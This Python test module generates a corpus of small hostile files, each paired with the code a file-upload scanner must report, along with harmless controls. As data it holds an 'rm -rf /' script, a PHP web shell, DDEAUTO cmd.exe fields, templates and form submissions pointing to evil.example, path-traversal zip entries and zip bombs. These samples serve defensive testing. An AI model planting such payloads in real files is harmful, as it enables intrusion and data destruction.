"""A corpus of hostile files, each with what must be found: ``python -m tests.records.hostile FOLDER`` writes them to look at.

None holds working malware: each is the smallest file that has the trait. Made by script, so nothing of this lies in git.
"""

import io
import stat
import struct
import sys
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

from tests.records.made_up import archive, dicom, docx, odt, ole, pdf, picture, png, relations, stream

EXE = b"MZ\x90\x00" + bytes(60) + b"PE\x00\x00" + bytes(400)
ELF = b"\x7fELF\x02\x01\x01" + bytes(400)
PAGE = b"<!doctype html><html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
VBA = {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(60)}


@dataclass(frozen=True)
class Hostile:
    """One file: what must be said of it, or (``inside``) of something in it; either of several codes may be right."""

    name: str
    make: Callable[[], bytes]
    codes: frozenset[str]
    item: str = "document"
    inside: bool = field(default=False)

    def told(self, own: str | None, children: dict[str, str | None]) -> bool:
        """Return whether an inspection found it."""
        return bool(set(children.values()) & self.codes) if self.inside else own in self.codes


def _one(name: str, make: Callable[[], bytes], *codes: str, item: str = "document", inside: bool = False) -> Hostile:
    return Hostile(name, make, frozenset(codes), item, inside)


def _link() -> bytes:
    entry = zipfile.ZipInfo("innocent.pdf")
    entry.create_system, entry.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    return archive([(entry, b"/etc/passwd"), ("letter.pdf", pdf())])


def _named(name: str) -> Callable[[], bytes]:
    return lambda: archive([(zipfile.ZipInfo(name), pdf()), ("letter.pdf", pdf(words="another"))])


def _locked_zip() -> bytes:
    plain = bytearray(archive({"letter.pdf": pdf()}))
    plain[6] |= 1
    plain[plain.rindex(b"PK\x01\x02") + 8] |= 1
    return bytes(plain)


def _overlapping() -> bytes:
    """Many names for the same packed bytes, as the bombs of 2019 have."""
    plain = archive({"a": bytes(2_000_000)})
    at = plain.rindex(b"PK\x01\x02")
    end = plain.rindex(b"PK\x05\x06")
    entry = plain[at:end]
    count = 300
    tail = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(entry) * count, at, 0)
    return plain[:at] + entry * count + tail


def _nested(levels: int, content: bytes) -> bytes:
    for level in range(levels):
        content = archive({f"level{level}.zip" if level else "letter.pdf": content})
    return content


def _many(count: int) -> bytes:
    return archive(((f"{n}.txt", b"x") for n in range(count)), zipfile.ZIP_STORED)


def _bomb() -> bytes:
    made = io.BytesIO()
    with (
        zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as packed,
        packed.open("zeros.dcm", "w") as file,
    ):
        for _ in range(300):
            file.write(bytes(1 << 20))
    return made.getvalue()


def _lying_size() -> bytes:
    """Says it unpacks to 10 bytes, and unpacks to many more."""
    plain = bytearray(archive({"letter.pdf": pdf() + bytes(100_000)}))
    struct.pack_into("<L", plain, plain.rindex(b"PK\x01\x02") + 24, 10)
    struct.pack_into("<L", plain, 22, 10)
    return bytes(plain)


def _odd_packing() -> bytes:
    plain = bytearray(archive({"letter.pdf": pdf()}))
    struct.pack_into("<H", plain, plain.rindex(b"PK\x01\x02") + 10, 9)
    struct.pack_into("<H", plain, 8, 9)
    return bytes(plain)


def _broken_crc() -> bytes:
    plain = bytearray(archive({"letter.pdf": pdf()}, zipfile.ZIP_STORED))
    plain[60] ^= 0xFF
    return bytes(plain)


def _chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def _xls(records: bytes) -> bytes:
    return ole({"Workbook": struct.pack("<HH", 0x809, 4) + bytes(4) + records + struct.pack("<HH", 0x0A, 0)})


def _dicom_in_archive(preamble: bytes) -> Callable[[], bytes]:
    return lambda: archive({"IMG1": dicom(1), "IMG2": dicom(2, preamble=preamble.ljust(128, b"\x00"))})


def _action(kind: str, more: str = "") -> Callable[[], bytes]:
    return lambda: pdf(f"<< /S /{kind} {more} >>", root="/OpenAction 10 0 R")


def _locked_pdf() -> bytes:
    import pikepdf

    made = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as plain:
        plain.save(made, encryption=pikepdf.Encryption(owner="owner", user="secret"))
    return made.getvalue()


def _script_in_object_stream() -> bytes:
    import pikepdf

    made = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf("<< /S /JavaScript /JS (app.alert(1)) >>", root="/OpenAction 10 0 R"))) as plain:
        plain.save(made, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return made.getvalue()


_KINDS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_EXTERNAL = f'Id="r9" Type="{_KINDS}/{{}}" Target="http://evil.example/x" TargetMode="External"/>'
_TEMPLATE, _OBJECT = ("<Relationship " + _EXTERNAL.format(kind) for kind in ("attachedTemplate", "oleObject"))
_ELSEWHERE = relations(_TEMPLATE)
_CAPITALS = {"word/_rels/document.xml.RELS": _ELSEWHERE}
_SIMPLE_FIELDS = b'<w:document><w:fldSimple w:instr="PAGE"/><w:fldSimple w:instr="DdeAuto x"/></w:document>'
_DDE_LINK = b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
_DDE_FORMULA = b'<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;x&quot;)"/>'
_SPELLED = _TEMPLATE.replace('"External"', '"&#69;xternal"')
_LIKE_A_LINK = _TEMPLATE.replace("http://evil.example/x", "http://evil.example/hyperlink")
_PARCEL_BY_KIND = f'<Relationship Id="r9" Type="{_KINDS}/oleObject" Target="embeddings/picture.bin"/>'
_MACROS_BY_KIND = '<Types><Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
_MACRO_TYPES = '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled+xml"/></Types>'
_LAUGHS = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><w:document>&b;</w:document>'

_SCRIPT = "<< /S /JavaScript /JS (app.alert(1)) >>"
_LONG_SCRIPT = "<< /S /JavaScript /JS 10 0 R >>"
_TWICE = "/Filter [/FlateDecode /FlateDecode]"
_GIF = b"GIF89a\xff\xff\xff\xff\x80\x00\x00" + bytes(6) + b",\x00\x00\x00\x00\xff\xff\xff\xff\x00\x02\x02D\x01\x00;"
_scripted = _action("JavaScript", "/JS (1)")


def _wide(part: bytes) -> bytes:
    return part.decode().replace('"1.0"', '"1.0" encoding="UTF-16"').encode("utf-16")


def _field(*pieces: str, tag: str = "instrText") -> dict[str, bytes]:
    """A part of a text with a field whose instruction comes in these pieces."""
    runs = "".join(f"<w:r><w:{tag}>{piece}</w:{tag}></w:r>" for piece in pieces)
    return {
        "word/footer1.xml": f'<w:ftr><w:fldChar w:fldCharType="begin"/>{runs}<w:fldChar w:fldCharType="end"/></w:ftr>'.encode()
    }


def _twice() -> bytes:
    """The same part two times, the harmless one last."""
    parts = [("[Content_Types].xml", b"<Types/>"), ("word/document.xml", b"<w:document/>")]
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return archive(
            [*parts, ("word/_rels/document.xml.rels", _ELSEWHERE), ("word/_rels/document.xml.rels", relations())]
        )


def _chain(length: int) -> bytes:
    """An action that is followed by others, each written within the one before; the last is a script."""
    action = _SCRIPT
    for _ in range(length):
        action = f"<< /S /URI /URI (https://example.org) /Next {action} >>"
    return pdf(action, root="/OpenAction 10 0 R")


def _packed(megabytes: int, times: int = 1) -> bytes:
    body = bytes(megabytes << 20)
    for _ in range(times):
        body = zlib.compress(body, 9)
    return body


CORPUS: tuple[Hostile, ...] = (
    # programs and scripts, by whatever name
    _one("report.pdf.exe", lambda: EXE, "program"),
    _one("scan.jpg", lambda: ELF, "program"),
    _one("run.sh", lambda: b"#!/bin/sh\nrm -rf /\n", "program"),
    _one("applet.class", lambda: b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(90), "program"),
    _one("mac", lambda: b"\xcf\xfa\xed\xfe" + bytes(90), "program"),
    _one("open me.lnk", lambda: b"\x4c\x00\x00\x00\x01\x14\x02\x00" + bytes(90), "program"),
    _one("module.wasm", lambda: b"\x00asm\x01\x00\x00\x00", "program"),
    _one("image.svg", lambda: SVG, "markup"),
    _one("image with head.svg", lambda: b'<?xml version="1.0"?>' + SVG, "markup"),
    _one("letter.html", lambda: PAGE, "markup"),
    _one("letter.txt", lambda: b"Dear colleague\n" * 9 + PAGE, "markup"),
    _one("far down.txt", lambda: b"Dear colleague\n" * 9000 + PAGE, "polyglot", "markup"),
    _one("wide.html", lambda: b"\xff\xfe" + PAGE.decode().encode("utf-16-le"), "markup"),
    _one("shell.php", lambda: b"<?php system($_GET['c']); ?>", "markup"),
    _one("app.hta", lambda: b"<hta:application><script>1</script>", "markup"),
    _one("nothing", lambda: b"", "empty"),
    _one("noise.bin", lambda: bytes(range(256)) * 20, "unknown_type"),
    _one("compiled.chm", lambda: b"ITSF\x03\x00\x00\x00" + bytes(90), "unknown_type"),
    # PDF
    _one("script on opening.pdf", _action("JavaScript", "/JS (app.alert(1))"), "script"),
    _one("script in names.pdf", lambda: pdf(_SCRIPT, root="/Names << /JavaScript << /Names [(a) 10 0 R] >> >>"), "script"),
    _one("script in a field.pdf", lambda: pdf(f"<< /Type /Annot /Subtype /Widget /AA << /E {_SCRIPT} >> >>"), "script"),
    _one("script in a stream.pdf", lambda: pdf(stream(b"app.alert(1)"), _LONG_SCRIPT, root="/OpenAction 11 0 R"), "script"),
    _one("packed script.pdf", _script_in_object_stream, "script"),
    _one("script by another spelling.pdf", _action("J#61vaScript", "/J#53 (1)"), "script"),
    _one("starts a program.pdf", _action("Launch", "/Win << /F (cmd.exe) >>"), "launch"),
    _one("sends the form.pdf", _action("SubmitForm", "/F (http://evil.example)"), "script"),
    _one("imports.pdf", _action("ImportData", "/F (x)"), "script"),
    _one("goes to an attachment.pdf", _action("GoToE", "/T << /R /C >>"), "attachments"),
    _one("carries a program.pdf", lambda: pdf(stream(EXE, "/Type /EmbeddedFile"), "<< /Type /Filespec /F (a.exe) /EF << /F 10 0 R >> >>",
                                               root="/Names << /EmbeddedFiles << /Names [(a.exe) 11 0 R] >> >>"), "attachments"),
    _one("script at the end of a long chain.pdf", lambda: _chain(40), "script"),
    _one("dynamic form.pdf", lambda: pdf(stream(b"<xdp/>"), root="/AcroForm << /XFA 10 0 R /Fields [] >>"), "script"),
    _one("locked.pdf", _locked_pdf, "password"),
    _one("cut short.pdf", lambda: pdf()[:200], "unreadable"),
    _one("only a head.pdf", lambda: b"%PDF-1.7\n" + b"made up " * 200, "unreadable"),
    _one("no pages.pdf", lambda: pdf(pages=0), "unreadable"),
    _one("pages in a circle.pdf", lambda: pdf().replace(b"/Kids [3 0 R ]", b"/Kids [2 0 R ]"), "unreadable", "over_limits"),
    _one("four thousand pages.pdf", lambda: pdf(pages=4000), "too_many_pages"),
    _one("pdf and archive.pdf", lambda: pdf() + archive({"evil.txt": b"x"}), "polyglot"),
    _one("page before a pdf.pdf", lambda: b"<html>" + pdf(), "markup"),
    _one("packed a thousand times.pdf", lambda: pdf(stream(_packed(50, 2), _TWICE), _LONG_SCRIPT), "script", "over_limits"),
    # images
    _one("image and page.png", lambda: png() + PAGE, "polyglot"),
    _one("image and archive.jpg", lambda: picture("JPEG") + archive({"evil.txt": b"x"}), "polyglot"),
    _one("image and pdf.gif", lambda: picture("GIF") + pdf(), "polyglot"),
    _one("script in a comment.png", lambda: png(extra=_chunk(b"tEXt", b"Comment\x00<script>alert(1)</script>")), "polyglot"),
    _one("php in a photograph.jpg", lambda: picture("JPEG", comment=b"<?php system('x'); ?>"), "polyglot"),
    _one("a million megapixels.png", lambda: png(told=(1_000_000, 1_000_000)), "too_many_pixels"),
    _one("many pixels.gif", lambda: _GIF, "too_many_pixels", "unreadable"),
    _one("text bomb.png", lambda: png(extra=_chunk(b"zTXt", b"a\x00\x00" + _packed(80))), "unreadable", "over_limits"),
    _one("cut short.jpg", lambda: picture("JPEG", (400, 400))[:500], "unreadable"),
    _one("only a head.jpg", lambda: b"\xff\xd8\xff\xe0" + bytes(20), "unreadable"),
    _one("directory in a circle.tif", lambda: b"II*\x00\x08\x00\x00\x00\x00\x00\x08\x00\x00\x00", "unreadable", "over_limits"),
    _one("lying.heic", lambda: b"\x00\x00\x00\x18ftypheic" + bytes(64), "unreadable"),
    # office
    _one("macros.docm", lambda: docx(VBA), "macros"),
    _one("macros by type.docx", lambda: docx(types=_MACRO_TYPES), "macros"),
    _one("macro sheet.xlsx", lambda: docx({"xl/macrosheets/sheet1.xml": b"<x/>", "xl/workbook.xml": b"<x/>"}), "macros"),
    _one("control.docx", lambda: docx({"word/activeX/activeX1.bin": b"x"}), "macros"),
    _one("template from elsewhere.docx", lambda: docx(relation=_TEMPLATE), "outside_links"),
    _one("object from elsewhere.docx", lambda: docx(relation=_OBJECT), "outside_links"),
    _one("parcel.docx", lambda: docx({"word/embeddings/oleObject1.bin": EXE}), "attachments"),
    _one("billion laughs.docx", lambda: docx({"word/document.xml2.xml": _LAUGHS}), "bomb"),
    _one("runs a command.docx", lambda: docx({"word/footer1.xml": b"<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>"}), "launch"),
    _one("template like a link.docx", lambda: docx(relation=_LIKE_A_LINK), "outside_links"),
    _one("template in wide letters.docx", lambda: docx({"word/_rels/document.xml.rels": _wide(_ELSEWHERE)}), "outside_links"),
    _one("template in capitals.docx", lambda: docx(_CAPITALS), "outside_links"),
    _one("template spelled otherwise.docx", lambda: docx(relation=_SPELLED), "outside_links"),
    _one("template in one of two parts.docx", _twice, "outside_links"),
    _one("parcel by another name.docx", lambda: docx({"word/embeddings/picture.bin": EXE}, relation=_PARCEL_BY_KIND), "attachments"),
    _one("macros by another name.docx", lambda: docx({"word/x.bin": b"x"}, types=_MACROS_BY_KIND), "macros"),
    _one("laughs in wide letters.docx", lambda: docx({"word/a.xml": _wide(_LAUGHS)}), "bomb"),
    _one("runs a command in small letters.docx", lambda: docx(_field("ddeauto c:\\cmd.exe")), "launch"),
    _one("runs a command when updated.docx", lambda: docx(_field(" DDE c:\\cmd.exe")), "launch"),
    _one("runs a command in pieces.docx", lambda: docx(_field("DD", "EAU", "TO c:\\cmd.exe")), "launch"),
    _one("runs a command after a page number.docx", lambda: docx({"word/document.xml": _SIMPLE_FIELDS}), "launch"),
    _one("runs a command in another part.docx", lambda: docx({"word/text.dat": _field("DDEAUTO x")["word/footer1.xml"]}), "launch"),
    _one("runs a command.xlsx", lambda: docx({"xl/externalLinks/externalLink1.xml": _DDE_LINK}), "launch"),
    _one("runs a command.ods", lambda: odt({"content.xml": _DDE_FORMULA}), "launch"),
    _one("runs a command.doc", lambda: ole({"WordDocument": b"\xec\xa5" + bytes(30) + b"\x13 DDEAUTO cmd.exe \x14\x15"}), "launch"),
    _one("runs a command in pieces.rtf", lambda: rb"{\rtf1{\field{\*\fldinst {\b D}{DE\'41uto} c:\\cmd.exe}}}", "launch"),
    _one("macros.odt", lambda: odt({"Basic/Standard/Module1.xml": b"<x/>"}), "macros"),
    _one("locked.odt", lambda: odt({"META-INF/manifest.xml": b"<m><manifest:encryption-data/></m>"}), "password"),
    _one("macros.doc", lambda: ole({"WordDocument": b"\xec\xa5" + bytes(30), "_VBA_PROJECT": b"x"}), "macros"),
    _one("locked.docx", lambda: ole({"EncryptedPackage": b"x", "EncryptionInfo": b"x"}), "password"),
    _one("locked.doc", lambda: ole({"WordDocument": b"\xec\xa5" + bytes(8) + b"\x00\x01" + bytes(30)}), "password"),
    _one("old macros.xls", lambda: _xls(struct.pack("<HHIBB", 0x85, 8, 0, 0, 1) + b"\x00\x00"), "macros"),
    _one("locked.xls", lambda: _xls(struct.pack("<HH", 0x2F, 2) + b"xx"), "password"),
    _one("installer.msi", lambda: ole({"Property": b"x"}), "unknown_type"),
    _one("cut short.doc", lambda: ole({"WordDocument": b"x"})[:700], "unreadable"),
    _one("parcel.rtf", lambda: b"{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}", "attachments"),
    _one("template.rtf", lambda: b"{\\rtf1{\\*\\template http://evil.example/x.dot}}", "outside_links"),
    # archives
    _one("up.zip", _named("../../etc/cron.d/evil"), "unsafe_path", inside=True),
    _one("up by backslash.zip", _named("..\\..\\evil.pdf"), "unsafe_path", inside=True),
    _one("absolute.zip", _named("/etc/passwd"), "unsafe_path", inside=True),
    _one("drive.zip", _named("C:\\Windows\\evil.pdf"), "unsafe_path", inside=True),
    _one("turned round.zip", _named("letter\u202efdp.exe"), "unsafe_path", inside=True),
    _one("link.zip", _link, "unsafe_path", inside=True),
    _one("bomb.zip", _bomb, "bomb", item="imaging"),
    _one("overlapping.zip", _overlapping, "bomb"),
    _one("lying about its size.zip", _lying_size, "unreadable", inside=True),
    _one("too many.zip", lambda: _many(20_001), "too_many_files"),
    _one("too deep.zip", lambda: _nested(5, pdf()), "too_deep", inside=True),
    _one("locked.zip", _locked_zip, "password"),
    _one("odd packing.zip", _odd_packing, "compression", inside=True),
    _one("damaged.zip", _broken_crc, "unreadable", inside=True),
    _one("no table.zip", lambda: archive({"a": b"b"})[:40], "unreadable"),
    _one("program inside.zip", lambda: archive({"viewer.exe": EXE, "letter.pdf": pdf()}), "program", inside=True),
    _one("macros inside.zip", lambda: archive({"a/b/macros.docm": docx(VBA), "letter.pdf": pdf()}), "macros", inside=True),
    _one("script two levels down.zip", lambda: archive({"in.zip": archive({"evil.pdf": _scripted()})}), "script", inside=True),
    _one("packed.rar", lambda: b"Rar!\x1a\x07\x00" + bytes(90), "other_archive"),
    _one("packed.7z", lambda: b"7z\xbc\xaf\x27\x1c" + bytes(90), "other_archive"),
    _one("packed.gz", lambda: b"\x1f\x8b\x08" + bytes(90), "other_archive"),
    _one("cd.iso", lambda: bytes(0x8001) + b"CD001" + bytes(90), "other_archive", item="imaging"),
    # DICOM
    _one("IMG with a Windows program", lambda: dicom(preamble=EXE[:128]), "dicom_program", item="imaging"),
    _one("IMG with a Linux program", lambda: dicom(preamble=ELF[:128]), "dicom_program", item="imaging"),
    _one("IMG with a script", lambda: dicom(preamble=b"#!/bin/sh\n".ljust(128)), "dicom_program", item="imaging"),
    _one("IMG with a page", lambda: dicom(preamble=b"<html><script>".ljust(128)), "dicom_program", item="imaging"),
    _one("IMG and archive", lambda: dicom() + archive({"a": b"b"}), "polyglot", item="imaging"),
    _one("IMG on a CD.zip", _dicom_in_archive(EXE[:128]), "dicom_program", item="imaging", inside=True),
    _one("IMG for a letter", dicom, "unknown_type"),
)  # fmt: skip


def harmless() -> Iterator[tuple[str, bytes, str]]:
    """Yield files that must come through: name, bytes, kind of item. A guard that stops everything guards nothing."""
    yield "letter.pdf", pdf(), "document"
    yield "link.pdf", pdf("<< /S /URI /URI (https://example.org) >>"), "document"
    yield "photograph.jpg", picture("JPEG", (1200, 900)), "document"
    for kind, name in (
        ("TIFF", "scan.tif"),
        ("GIF", "scan.gif"),
        ("WEBP", "scan.webp"),
        ("BMP", "scan.bmp"),
        ("HEIF", "phone.heic"),
    ):
        yield name, picture(kind), "document"
    yield "scan.png", png(), "document"
    yield (
        "mark in the pixels.png",
        png(16, 4, pixels=(b"\x00<html\x8f\x02<?php\x03\xfe\x7f<").ljust(17, b"\x00") * 4),
        "document",
    )
    yield "letter.docx", docx(relation="<Relationship " + _EXTERNAL.format("hyperlink")), "document"
    drawings = {
        "word/media/a.svg": b'<!DOCTYPE svg PUBLIC "a" "b"><svg/>',
        "word/drawings/vmlDrawing1.vml": b"<xml><div>a<br></div></xml>",
    }
    yield "with drawings and fields.docx", docx(drawings | _field("PAGE REF DDE_LINK1")), "document"
    yield "letter.odt", odt({"Configurations2/accelerator/current.xml": b""}), "document"
    yield "letter.doc", ole({"WordDocument": b"\xec\xa5" + bytes(30), "1Table": b"x"}), "document"
    yield "table.xls", _xls(struct.pack("<HHIBB", 0x85, 8, 0, 0, 0) + b"\x00\x00"), "document"
    yield "letter.rtf", b"{\\rtf1 Made up}", "document"
    yield "values.txt", "Hämoglobin 12,3\nقيمة\n".encode(), "document"
    yield "old letter.txt", "Hämoglobin".encode("latin-1"), "document"
    yield "IMG0001", dicom(), "imaging"
    yield "IMG0002", dicom(preamble=b"II*\x00".ljust(128, b"\x00")), "imaging"
    yield "folder.zip", archive({"a/letter.pdf": pdf(), "b/inner.zip": archive({"photo.png": png()})}), "document"


def main(folder: Path) -> None:
    """Write the corpus, numbered, with a table of what must be found."""
    folder.mkdir(parents=True, exist_ok=True)
    for number, one in enumerate(CORPUS):
        (folder / f"{number:02} {one.name}").write_bytes(one.make())
        sys.stdout.write(f"{number:02} {one.name}: {' or '.join(sorted(one.codes))}\n")


if __name__ == "__main__":
    main(Path(sys.argv[1]))
